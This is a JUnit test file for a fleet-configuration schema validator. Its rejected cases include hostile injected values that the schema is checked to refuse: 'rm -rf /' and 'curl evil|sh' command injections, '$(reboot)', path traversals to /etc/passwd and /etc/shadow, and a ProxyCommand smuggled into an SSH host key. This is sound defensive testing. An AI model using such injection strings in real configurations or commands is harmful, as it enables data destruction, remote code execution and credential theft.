package dev.fleetform.schema;

import static dev.fleetform.schema.Docs.fullFleet;
import static dev.fleetform.schema.Docs.with;
import static dev.fleetform.schema.Docs.without;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Which documents the schema accepts and which it rejects, and where: each rejected case is the
 * full example fleet with one value made hostile or wrong, and must give exactly one violation.
 */
class FleetSchemaTest {
    private static final JsonNode FULL = fullFleet();
    private static final String DISK0 = "/profiles/gpu-a100x2/hardware/disks/0";
    private static final String FS0 = "/profiles/gpu-a100x2/storage/filesystems/0";
    private static final String VM0 = "/hosts/0/vms/0";
    private static final String MINER0 = "/workloads/miners/0";
    private static final String SYSCTL = "/defaults/baseline/sysctl";

    private static List<SchemaViolation> validate(JsonNode doc) {
        return FleetSchema.get().validate(doc);
    }

    @Test
    void acceptsEveryExampleOfTheFormat() {
        assertEquals(List.of(), validate(FULL));
    }

    @Test
    void acceptsTheSmallestFleet() {
        assertEquals(List.of(), validate(Docs.yaml("apiVersion: fleetform.dev/v1\nkind: Fleet\n")));
    }

    static Stream<Arguments> accepted() {
        return Stream.of(
                Arguments.of("/hosts/0/address", "\"fd00::11\""),
                Arguments.of("/hosts/0/address", "gpu-01.int.example.com"),
                Arguments.of(SYSCTL + "/kernel.pid_max", "4194304"),
                Arguments.of(SYSCTL + "/net.ipv4.ip_local_port_range", "\"1024 65000\""),
                Arguments.of("/defaults/baseline/limits/nofile", "unlimited"),
                Arguments.of(MINER0 + "/image", "localhost:5000/ore/miner:v1.2.3"),
                Arguments.of(MINER0 + "/image", "registry.internal:5000/ore"),
                Arguments.of(DISK0 + "/device", "/dev/disk/by-path/pci-0000:3b:00.0-nvme-1"),
                Arguments.of("/defaults/ssh/identityFile", "/etc/fleetform/id_ed25519"),
                Arguments.of("/defaults/baseline/timezone", "America/Argentina/Buenos_Aires"),
                Arguments.of("/hosts/0/labels/topology.kubernetes.io~1zone", "az1"),
                Arguments.of(MINER0 + "/secrets/rpc/secretRef", "env:SOLANA_RPC_URL"),
                Arguments.of(FS0 + "/mountpoint", "/srv/data.d/vm-store_1"),
                Arguments.of("/monitoring/consul", "{}"),
                Arguments.of("/monitoring/consul", "{server: \"10.0.0.5:8500\", datacenter: dc1}"),
                Arguments.of("/monitoring/consul", "{server: \"consul.int.example.com:8500\", datacenter: eu_west-1}"),
                Arguments.of("/monitoring/consul", "{server: \"[fd00::5]:8500\"}"),
                Arguments.of("/monitoring/alertmanagers", "[\"10.0.0.7:9093\", \"10.0.0.8:9093\"]"),
                Arguments.of("/monitoring/alertmanagers", "[\"am-01.dc-2.example.com:9093\", \"[fd00::7]:9093\", \"2am:65535\"]"),
                Arguments.of("/monitoring/dingtalkBridge", "http://10.0.0.7:8060"),
                Arguments.of("/monitoring/dingtalkBridge", "https://dingtalk-bridge-2.int.example.com"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://[fd00::7]:8060\""));
    }

    @ParameterizedTest(name = "{0} = {1}")
    @MethodSource("accepted")
    void accepts(String pointer, String value) {
        assertEquals(List.of(), validate(with(FULL, pointer, value)));
    }

    static Stream<Arguments> rejected() {
        return Stream.of(
                // pointer edited, YAML value, expected keyword, expected violation pointer
                Arguments.of("/hosts/0/adress", "10.0.2.11", "additionalProperties", "/hosts/0/adress"),
                Arguments.of("/apiVersion", "fleetform.dev/v2", "enum", "/apiVersion"),
                Arguments.of(DISK0 + "/device", "\"/dev/sda;rm -rf /\"", "pattern", DISK0 + "/device"),
                Arguments.of(DISK0 + "/device", "/dev/../etc/passwd", "pattern", DISK0 + "/device"),
                Arguments.of(DISK0 + "/device", "/etc/passwd", "pattern", DISK0 + "/device"),
                Arguments.of(DISK0 + "/device", "\"/dev/sda\\n\"", "pattern", DISK0 + "/device"),
                Arguments.of(DISK0 + "/media", "sata", "enum", DISK0 + "/media"),
                Arguments.of(DISK0 + "/sizeGiB", "\"960\"", "type", DISK0 + "/sizeGiB"),
                Arguments.of("/hosts/0/name", "\"gpu<01>\"", "pattern", "/hosts/0/name"),
                Arguments.of("/hosts/0/name", "\"gpu-01\\n\"", "pattern", "/hosts/0/name"),
                Arguments.of("/hosts/0/name", "Gpu-01", "pattern", "/hosts/0/name"),
                Arguments.of("/hosts/0/address", "\"10.0.2.11; reboot\"", "pattern", "/hosts/0/address"),
                Arguments.of("/hosts/0/hostKey", "\"ssh-ed25519 AAAA\\nProxyCommand evil\"", "pattern", "/hosts/0/hostKey"),
                Arguments.of("/hosts/0/hostKey", "\"AAAAC3NzaC1lZDI1NTE5\"", "pattern", "/hosts/0/hostKey"),
                Arguments.of("/hosts/0/labels/rack", "\"r 02\"", "pattern", "/hosts/0/labels/rack"),
                Arguments.of("/hosts/0/labels/rack", "2", "type", "/hosts/0/labels/rack"),
                Arguments.of("/hosts/0/labels/-rack", "r02", "propertyNames", "/hosts/0/labels/-rack"),
                Arguments.of(SYSCTL + "/vm.swappiness", "\"1; reboot\"", "pattern", SYSCTL + "/vm.swappiness"),
                Arguments.of(SYSCTL + "/vm.swappiness", "\"1\\nkernel.modules_disabled=1\"", "pattern", SYSCTL + "/vm.swappiness"),
                Arguments.of(SYSCTL + "/vm.swappiness", "true", "type", SYSCTL + "/vm.swappiness"),
                Arguments.of(SYSCTL + "/vm swappiness", "1", "propertyNames", SYSCTL + "/vm swappiness"),
                Arguments.of("/defaults/baseline/limits/nofile", "lots", "pattern", "/defaults/baseline/limits/nofile"),
                Arguments.of("/defaults/baseline/limits/nofile", "-1", "minimum", "/defaults/baseline/limits/nofile"),
                Arguments.of("/defaults/baseline/limits/nofiles", "1024", "additionalProperties", "/defaults/baseline/limits/nofiles"),
                Arguments.of("/defaults/baseline/limits/nice", "-21", "minimum", "/defaults/baseline/limits/nice"),
                Arguments.of("/defaults/baseline/dns/nameservers/0", "\"10.0.0.2; evil\"", "pattern", "/defaults/baseline/dns/nameservers/0"),
                Arguments.of("/defaults/baseline/dns/nameservers/3", "10.0.0.9", "maxItems", "/defaults/baseline/dns/nameservers"),
                Arguments.of("/defaults/baseline/packages/0", "\"curl; rm -rf /\"", "pattern", "/defaults/baseline/packages/0"),
                Arguments.of("/defaults/baseline/timezone", "../../etc/passwd", "pattern", "/defaults/baseline/timezone"),
                Arguments.of("/defaults/ssh/identityFile", "~/../../etc/shadow", "pattern", "/defaults/ssh/identityFile"),
                Arguments.of("/defaults/ssh/identityFile", "\"-----BEGIN OPENSSH PRIVATE KEY-----\"", "pattern", "/defaults/ssh/identityFile"),
                Arguments.of("/defaults/ssh/knownHosts", "/etc/ssh/known_hosts", "pattern", "/defaults/ssh/knownHosts"),
                Arguments.of("/defaults/ssh/port", "70000", "maximum", "/defaults/ssh/port"),
                Arguments.of("/include/0", "\"../secrets/*.yaml\"", "pattern", "/include/0"),
                Arguments.of("/include/0", "\"/etc/*.yaml\"", "pattern", "/include/0"),
                Arguments.of("/profiles/gpu-a100x2/hardware/gpus/0/pci", "\"0000:3B:00.0\"", "pattern", "/profiles/gpu-a100x2/hardware/gpus/0/pci"),
                Arguments.of("/profiles/gpu-a100x2/hardware/gpus/0/model", "\"a100 40gb\"", "pattern", "/profiles/gpu-a100x2/hardware/gpus/0/model"),
                Arguments.of("/profiles/gpu-a100x2/storage/raid/0/level", "3", "enum", "/profiles/gpu-a100x2/storage/raid/0/level"),
                Arguments.of("/profiles/gpu-a100x2/storage/raid/0/level", "\"1\"", "type", "/profiles/gpu-a100x2/storage/raid/0/level"),
                Arguments.of("/profiles/gpu-a100x2/storage/raid/0/chunkKiB", "0", "minimum", "/profiles/gpu-a100x2/storage/raid/0/chunkKiB"),
                Arguments.of("/profiles/gpu-a100x2/storage/raid/0/metadata", "1.2", "type", "/profiles/gpu-a100x2/storage/raid/0/metadata"),
                Arguments.of("/profiles/gpu-a100x2/overcommit/cpu", "0", "exclusiveMinimum", "/profiles/gpu-a100x2/overcommit/cpu"),
                Arguments.of("/profiles/gpu-a100x2/address", "10.0.0.1", "additionalProperties", "/profiles/gpu-a100x2/address"),
                Arguments.of(FS0 + "/mountpoint", "\"/var/lib/my images\"", "pattern", FS0 + "/mountpoint"),
                Arguments.of(FS0 + "/mountpoint", "/var/../etc", "pattern", FS0 + "/mountpoint"),
                Arguments.of(FS0 + "/mountpoint", "var/lib", "pattern", FS0 + "/mountpoint"),
                Arguments.of(FS0 + "/mountOptions/0", "\"noatime;rm\"", "pattern", FS0 + "/mountOptions/0"),
                Arguments.of(FS0 + "/mkfsOptions/0", "\"-d su=1 $(reboot)\"", "pattern", FS0 + "/mkfsOptions/0"),
                Arguments.of(FS0 + "/type", "zfs", "enum", FS0 + "/type"),
                Arguments.of(FS0 + "/defrag", "hourly", "enum", FS0 + "/defrag"),
                Arguments.of(VM0 + "/vcpus", "0", "minimum", VM0 + "/vcpus"),
                Arguments.of(VM0 + "/autostart", "\"yes\"", "type", VM0 + "/autostart"),
                Arguments.of(VM0 + "/network/bridge", "br0123456789abcdef", "pattern", VM0 + "/network/bridge"),
                Arguments.of(VM0 + "/network/bridge", "\"br0 up\"", "pattern", VM0 + "/network/bridge"),
                Arguments.of(VM0 + "/network/address", "vm1.example.com", "pattern", VM0 + "/network/address"),
                Arguments.of(VM0 + "/vgpus/0/profile", "\"A100-10C'\"", "pattern", VM0 + "/vgpus/0/profile"),
                Arguments.of("/access/bastions/0/kind", "teleport", "enum", "/access/bastions/0/kind"),
                Arguments.of("/access/groups/0/actions/0", "sudo", "enum", "/access/groups/0/actions/0"),
                Arguments.of("/kubernetes/clusters/0/pools/0/taints/0/effect", "NoScheduled", "enum", "/kubernetes/clusters/0/pools/0/taints/0/effect"),
                Arguments.of("/kubernetes/clusters/0/pools/0/gpuWorkload", "vgpu", "enum", "/kubernetes/clusters/0/pools/0/gpuWorkload"),
                Arguments.of(MINER0 + "/image", "ghcr.io/Regolith-Labs/ore:1", "pattern", MINER0 + "/image"),
                Arguments.of(MINER0 + "/image", "\"ore:1;curl evil|sh\"", "pattern", MINER0 + "/image"),
                Arguments.of(MINER0 + "/namespace", "Mining", "pattern", MINER0 + "/namespace"),
                Arguments.of(MINER0 + "/resources/memory", "4 GB", "pattern", MINER0 + "/resources/memory"),
                Arguments.of(MINER0 + "/env/1BAD", "x", "propertyNames", MINER0 + "/env/1BAD"),
                Arguments.of(MINER0 + "/env/PRIORITY_FEE", "\"5000\\nEVIL=1\"", "pattern", MINER0 + "/env/PRIORITY_FEE"),
                Arguments.of(MINER0 + "/env/PRIORITY_FEE", "5000", "type", MINER0 + "/env/PRIORITY_FEE"),
                Arguments.of(MINER0 + "/secrets/rpc/secretRef", "\"mining/solana rpc#url\"", "pattern", MINER0 + "/secrets/rpc/secretRef"),
                Arguments.of(MINER0 + "/secrets/rpc/secretRef", "\"https://user:pw@rpc.example.com\"", "pattern", MINER0 + "/secrets/rpc/secretRef"),
                Arguments.of(MINER0 + "/secrets/rpc/mountPath", "/ore/rpc", "not", MINER0 + "/secrets/rpc"),
                Arguments.of(MINER0 + "/autoscale/targetCpuPercent", "101", "maximum", MINER0 + "/autoscale/targetCpuPercent"),
                Arguments.of("/monitoring/receivers/1/webhook/url", "\"http://user:pw@router:9000/hook\"", "pattern", "/monitoring/receivers/1/webhook/url"),
                Arguments.of("/monitoring/receivers/1/webhook/url", "\"https://oapi.dingtalk.com/robot/send?access_token=abc\"", "pattern", "/monitoring/receivers/1/webhook/url"),
                Arguments.of("/monitoring/receivers/1/webhook/url", "\"javascript:alert(1)\"", "pattern", "/monitoring/receivers/1/webhook/url"),
                Arguments.of("/monitoring/receivers/1/dingtalk", "{urlSecretRef: \"env:DINGTALK\"}", "not", "/monitoring/receivers/1"),
                Arguments.of("/monitoring/receivers/0/dingtalk/urlSecretRef", "\"https://oapi.dingtalk.com/robot/send?access_token=abc\"", "pattern", "/monitoring/receivers/0/dingtalk/urlSecretRef"),
                Arguments.of("/monitoring/alerts/0/name", "Miner-Replicas", "pattern", "/monitoring/alerts/0/name"),
                Arguments.of("/monitoring/alerts/0/summary", "\"\\e[31mred\"", "pattern", "/monitoring/alerts/0/summary"),
                Arguments.of("/monitoring/alerts/0/summary", "\"two\\nlines\"", "pattern", "/monitoring/alerts/0/summary"),
                // YAML 1.1 readers (PyYAML, SnakeYAML) fold these in plain scalars, and drop a leading BOM
                Arguments.of("/monitoring/alerts/0/summary", "\"line\\u2028separator\"", "pattern", "/monitoring/alerts/0/summary"),
                Arguments.of("/monitoring/alerts/0/summary", "\"para\\u2029separator\"", "pattern", "/monitoring/alerts/0/summary"),
                Arguments.of(MINER0 + "/env/PRIORITY_FEE", "\"\\ufeff5000\"", "pattern", MINER0 + "/env/PRIORITY_FEE"),
                Arguments.of("/monitoring/alerts/0/expr", "\"up == 0\\r\"", "pattern", "/monitoring/alerts/0/expr"),
                Arguments.of("/monitoring/alerts/0/expr", "\"\"", "minLength", "/monitoring/alerts/0/expr"),
                Arguments.of("/monitoring/alerts/0/for", "\"5m; rm\"", "pattern", "/monitoring/alerts/0/for"),
                Arguments.of("/monitoring/alerts/0/severity", "page", "enum", "/monitoring/alerts/0/severity"),
                Arguments.of("/monitoring/alerts/0/labels/team-name", "x", "propertyNames", "/monitoring/alerts/0/labels/team-name"),
                Arguments.of("/monitoring/alerts/0/runbook", "\"http://u:p@wiki/runbook\"", "pattern", "/monitoring/alerts/0/runbook"),
                Arguments.of("/monitoring/scrape/node/port", "0", "minimum", "/monitoring/scrape/node/port"),
                Arguments.of("/monitoring/baselineRules", "\"on\"", "type", "/monitoring/baselineRules"),
                Arguments.of("/monitoring/consul/server", "10.0.0.5", "pattern", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/server", "\"10.0.0.5:0\"", "pattern", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/server", "\"fd00::5:8500\"", "pattern", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/server", "\"10.0.0.5:8500/v1\"", "pattern", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/server", "\"consul:8500\\n\"", "pattern", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/server", "8500", "type", "/monitoring/consul/server"),
                Arguments.of("/monitoring/consul/token", "abc", "additionalProperties", "/monitoring/consul/token"),
                Arguments.of("/monitoring/consul", "{datacenter: dc1}", "required", "/monitoring/consul"),
                Arguments.of("/monitoring/consul", "[]", "type", "/monitoring/consul"),
                Arguments.of("/monitoring/alertmanagers", "[]", "minItems", "/monitoring/alertmanagers"),
                Arguments.of("/monitoring/alertmanagers", "\"10.0.0.7:9093\"", "type", "/monitoring/alertmanagers"),
                Arguments.of("/monitoring/alertmanagers", "[\"10.0.0.7:9093\", 10.0.0.8]", "pattern", "/monitoring/alertmanagers/1"),
                Arguments.of("/monitoring/alertmanagers", "[\"http://10.0.0.7:9093\"]", "pattern", "/monitoring/alertmanagers/0"),
                Arguments.of("/monitoring/alertmanagers", "[\"fd00::7:9093\"]", "pattern", "/monitoring/alertmanagers/0"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://bridge:s3cret@10.0.0.7:8060\"", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://10.0.0.7:8060/\"", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://10.0.0.7:8060/dingtalk\"", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://10.0.0.7:8060?token=abc\"", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "\"http://10.0.0.7:0\"", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "10.0.0.7:8060", "pattern", "/monitoring/dingtalkBridge"),
                Arguments.of("/monitoring/dingtalkBridge", "\"ftp://10.0.0.7\"", "pattern", "/monitoring/dingtalkBridge"));
    }

    @ParameterizedTest(name = "{0} = {1} -> {2} at {3}")
    @MethodSource("rejected")
    void rejects(String pointer, String value, String keyword, String violationPointer) {
        List<SchemaViolation> violations = validate(with(FULL, pointer, value));
        assertEquals(1, violations.size(), () -> "expected exactly one violation, got " + violations);
        assertEquals(keyword, violations.getFirst().keyword(), violations::toString);
        assertEquals(violationPointer, violations.getFirst().pointer(), violations::toString);
    }

    @Test
    void requiresReplicasUnlessAutoscaled() {
        List<SchemaViolation> v = validate(without(FULL, MINER0 + "/replicas", MINER0 + "/autoscale"));
        assertEquals(1, v.size(), v::toString);
        assertEquals("required", v.getFirst().keyword());
        assertEquals(MINER0, v.getFirst().pointer());
        assertEquals(List.of(), validate(without(FULL, MINER0 + "/replicas")));
    }

    @Test
    void requiresOneWayToGiveASecret() {
        List<SchemaViolation> v = validate(without(FULL, MINER0 + "/secrets/rpc/env"));
        assertEquals(1, v.size(), v::toString);
        assertEquals("required", v.getFirst().keyword());
        assertEquals(MINER0 + "/secrets/rpc", v.getFirst().pointer());
    }

    @Test
    void requiresAReceiverKind() {
        List<SchemaViolation> v = validate(without(FULL, "/monitoring/receivers/1/webhook"));
        assertEquals(1, v.size(), v::toString);
        assertEquals("required", v.getFirst().keyword());
        assertEquals("/monitoring/receivers/1", v.getFirst().pointer());
    }

    @Test
    void reportsEveryProblemNotJustTheFirst() {
        JsonNode doc = with(with(without(FULL, "/kind"), "/hosts/1/name", "BAD"), "/hosts/0/vms/1/vcpus", "-2");
        List<SchemaViolation> v = validate(doc);
        assertEquals(List.of("", "/hosts/0/vms/1/vcpus", "/hosts/1/name"),
                v.stream().map(SchemaViolation::pointer).toList(), v::toString);
    }

    @Test
    void survivesValuesOrgJsonCannotHold() {
        JsonNode doc = FULL.deepCopy();
        ((ObjectNode) doc.at(VM0)).put("vcpus", Double.POSITIVE_INFINITY);
        List<SchemaViolation> v = validate(doc);
        assertEquals(1, v.size(), v::toString);
        assertEquals("type", v.getFirst().keyword());
        assertTrue(validate(Docs.yaml("[1, 2]")).stream().anyMatch(x -> x.keyword().equals("type")));
    }
}
